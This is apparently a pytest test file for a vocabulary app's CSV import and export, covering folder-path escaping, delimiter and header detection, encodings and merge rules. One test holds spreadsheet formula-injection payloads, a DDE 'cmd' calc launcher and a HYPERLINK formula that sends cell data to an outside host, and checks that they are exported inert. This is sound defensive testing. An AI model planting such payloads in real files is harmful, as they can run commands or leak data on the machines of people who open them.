"""CSV word lists: folder paths with escaping, delimiter and header detection, encodings,
skipped rows with their line numbers, and round trips."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from app.domain import TEXT_MAX, InvalidInput
from app.inputs import NewFolder, NewWord
from app.store import Store
from app.store.transfer.csv_io import detect_delimiter, join_path, split_path
from tests.store.helpers import dump, make_store
from tests.store.transfer.workspaces import LINE, Spec, build, parse, preview, specs


@given(st.lists(LINE, min_size=1, max_size=4))
def test_folder_paths_round_trip_whatever_the_names(names: list[str]) -> None:
    names = [n.strip() for n in names]
    assert split_path(join_path(names)) == names


def test_path_escaping_is_as_documented() -> None:
    assert join_path(["Biology", "Cells/Tissues", "a\\b"]) == "Biology/Cells\\/Tissues/a\\\\b"
    assert split_path("/Biology//Cells/ ") == ["Biology", "Cells"]
    assert split_path("C:\\x") == ["C:\\x"]  # a lone backslash stays as it is


def words_of(store: Store) -> set[tuple[tuple[str, ...], str, tuple[str, ...], str, str, str]]:
    paths = {
        r.folder.id: tuple(f.name for f in store.folder_path(r.folder.id))
        for r in store.folder_tree()
    }
    return {
        (paths[w.folder_id], w.term, tuple(w.meanings), w.notes, w.lang, w.color)
        for folder_id in paths
        for w in store.words(folder_id, 0, 10_000)
    }


def folder_paths(store: Store) -> set[tuple[str, ...]]:
    return {tuple(f.name for f in store.folder_path(r.folder.id)) for r in store.folder_tree()}


@settings(max_examples=40, deadline=None)
@given(specs(notes=False))
def test_csv_round_trip_property(spec: Spec) -> None:
    original = build(spec)
    assume(original.folders())  # an empty workspace exports only the header
    copy = make_store()
    parsed = parse("words.csv", original.export("csv"))
    assert not parsed.skipped
    copy.import_parsed(parsed, "merge")
    assert folder_paths(copy) == folder_paths(original)
    assert words_of(copy) == words_of(original)


@settings(max_examples=30, deadline=None)
@given(specs(notes=False), specs(notes=False))
def test_importing_the_same_csv_twice_adds_nothing_the_second_time(
    mine: Spec, theirs: Spec
) -> None:
    store, other = build(mine), build(theirs)
    assume(other.folders())
    parsed = parse("words.csv", other.export("csv"))
    store.import_parsed(parsed, "merge")
    before = dump(store)
    assert not preview(store, parsed).changes_anything
    store.import_parsed(parsed, "merge")
    assert dump(store) == before


def test_export_has_a_header_a_bom_and_one_meaning_per_line() -> None:
    store = make_store()
    bio = store.create_folder(NewFolder(name="Biology"))
    store.add_word(NewWord(folder_id=bio.id, term="cell", meanings=["unit of life", "a room"]))
    text = store.export("csv").decode("utf-8")
    assert text.startswith("\ufefffolder,term,meanings,notes,lang,color\r\n")
    assert 'Biology,cell,"unit of life\na room",,,none\r\n' in text


def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_inert_and_read_back_whole() -> None:
    store = make_store()
    folder = store.create_folder(NewFolder(name="=cmd|' /C calc'!A0"))
    hostile = ['=HYPERLINK("https://x.example/?"&A1,"click")', "+1", "-2", "@SUM(1)", "'=kept"]
    store.add_word(NewWord(folder_id=folder.id, term="@term", meanings=hostile, notes="\tx"))
    text = store.export("csv").decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    copy = make_store()
    copy.import_parsed(parse("words.csv", text.encode()), "merge")
    assert words_of(copy) == words_of(store)


@pytest.mark.parametrize(
    ("sample", "expected"),
    [
        ("term,meaning\nhola,hello\nadiós,goodbye\n", ","),
        ("term;meaning\nhola;hello, hi\nadiós;goodbye\n", ";"),
        ("term\tmeaning\nhola\thello; hi, hey\nadiós\tgoodbye\n", "\t"),
        ('"a, b";"c"\n"d, e";"f"\n', ";"),
        ("just\nwords\nhere\n", ","),
    ],
)
def test_the_delimiter_is_detected(sample: str, expected: str) -> None:
    assert detect_delimiter(sample, ",") == expected


def test_a_headerless_semicolon_file_with_bom_reads_term_meanings_notes() -> None:
    data = "\ufeffhola;hello\nadiós;goodbye;informal\n".encode()
    parsed = parse("spanish.csv", data)
    assert [(w.term, w.meanings, w.notes) for w in parsed.workspace.words] == [
        ("hola", ["hello"], ""),
        ("adiós", ["goodbye"], "informal"),
    ]
    assert [f.name for f in parsed.workspace.folders] == ["spanish"]
    assert parsed.choices is not None
    assert not parsed.choices.tables[0].header


def test_a_header_is_recognised_in_any_order_and_unknown_columns_go_to_the_notes() -> None:
    data = b"Definition,Word,Deck,Source\nmaking food from light,photosynthesis,Bio::x,book\n"
    parsed = parse("list.csv", data)
    word = parsed.workspace.words[0]
    assert (word.term, word.meanings) == ("photosynthesis", ["making food from light"])
    assert word.notes == "Source: book"
    assert [f.name for f in parsed.workspace.folders] == ["Bio::x"]
    assert parsed.choices is not None
    assert parsed.choices.tables[0].roles == ("meanings", "term", "folder", "notes")


def test_notes_longer_than_a_word_can_hold_are_cut_and_the_preview_says_where() -> None:
    """Issue 25: a 100,000-character notes cell was marked "add" and stored cut, unsaid."""
    long = "n" * 100_000
    data = f"term,meaning,notes\nfine,ok,short\nlong,ok,{long}\nalso,{'m' * 3_000},x\n"
    parsed = parse("w.csv", data.encode())
    notes = {w.term: w.notes for w in parsed.workspace.words}
    assert len(notes["long"]) == TEXT_MAX
    assert notes["long"].endswith("…")
    assert notes["fine"] == "short"
    assert parsed.remarks == [
        "Notes longer than 50,000 characters were cut there (a meaning too long to be one goes "
        "to the notes): line 3."
    ]


def test_a_row_without_a_term_is_listed_with_the_reason() -> None:
    parsed = parse("w.csv", b"term,meaning\n,only meaning\n")
    assert parsed.workspace.words == []
    assert [(s.line, s.reason) for s in parsed.skipped] == [(2, "Term must not be empty.")]


def test_quoted_fields_with_newlines_keep_line_numbers_right() -> None:
    data = (
        "folder,term,meanings\n"
        'Bio,cell,"unit\nroom"\n'
        'Bio,,"no term here"\n'
        "Bio/Cells,nucleus,core\n"
        "Bio,cell,again\n"
        f"Bio,{'x' * 201},too long\n"
        "Bio,bad\x07term,x\n"
        "Bio,ok,x,,,plaid\n"
    ).encode()
    parsed = parse("w.csv", data)
    assert [(s.line, s.reason) for s in parsed.skipped] == [
        (4, "Term must not be empty."),
        (7, "Term must be at most 200 characters (it has 201)."),
        (8, "Term must be one line without tabs or control characters."),
    ]
    summary = preview(make_store(), parsed)
    assert summary.folder_paths == ["Bio", "Bio › Cells"]
    assert [(s.line, s.reason) for s in summary.merged] == [
        (6, "1 meaning added to the word of line 2.")
    ]
    assert summary.new_words == 3  # cell, nucleus, ok (the colour column is not in the header)


def test_a_bad_colour_or_language_skips_the_row_with_the_reason() -> None:
    data = b"term,meanings,colour,language\na,x,Red,es-mx\nb,x,plaid,\nc,x,,klingon!\n"
    parsed = parse("w.csv", data)
    assert [(w.term, w.color, w.lang) for w in parsed.workspace.words] == [("a", "red", "es-MX")]
    reasons = [s.reason for s in parsed.skipped]
    assert reasons[0].startswith("Colour")
    assert reasons[1].startswith("Language")


def test_merging_into_existing_folders_and_words_follows_the_rules() -> None:
    store = make_store()
    bio = store.create_folder(NewFolder(name="Biology"))
    store.add_word(NewWord(folder_id=bio.id, term="Cell", meanings=["unit of life"]))
    store.add_word(NewWord(folder_id=bio.id, term="gene", meanings=["unit of heredity"]))
    data = (
        b"folder,term,meanings,notes,lang\n"
        b'biology,cell,"unit of life\nsmall room",from the book,en\n'
        b"BIOLOGY,Gene,unit of heredity,,\n"
        b"Biology/New,virus,not alive,,\n"
    )
    parsed = parse("w.csv", data)
    summary = preview(store, parsed)
    assert (summary.new_folders, summary.new_words, summary.updated_words) == (1, 1, 1)
    assert summary.duplicate_words == 1
    assert [(s.line, s.reason) for s in summary.skipped] == [(4, "Already in biology.")]
    store.import_parsed(parsed, "merge")
    cell = store.words(bio.id)[0]
    assert (cell.term, cell.meanings) == ("Cell", ["unit of life", "small room"])
    assert (cell.notes, cell.lang) == ("from the book", "en")
    store.undo()
    assert store.words(bio.id)[0].meanings == ["unit of life"]


def test_utf16_with_bom_is_read_too() -> None:
    parsed = parse("w.txt", "term\tmeaning\nniño\tchild\n".encode("utf-16"))
    assert parsed.workspace.words[0].term == "niño"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty"),
        (b" \r\n \n", "empty"),
        ("term\nolé\n".encode("latin-1"), "not UTF-8 text (byte 0xE9 on line 2"),
        (b"term\nab\x00cd\n", "binary data"),
        (b'term,meaning\n"' + b"x" * 200_000 + b"\n", "Line 2 of this CSV file cannot be read"),
        (b"\x89PNG\r\n\x1a\n", "not UTF-8"),
    ],
)
def test_bad_csv_files_are_refused_clearly(data: bytes, message: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        parse("w.csv", data)
    assert message in caught.value.message
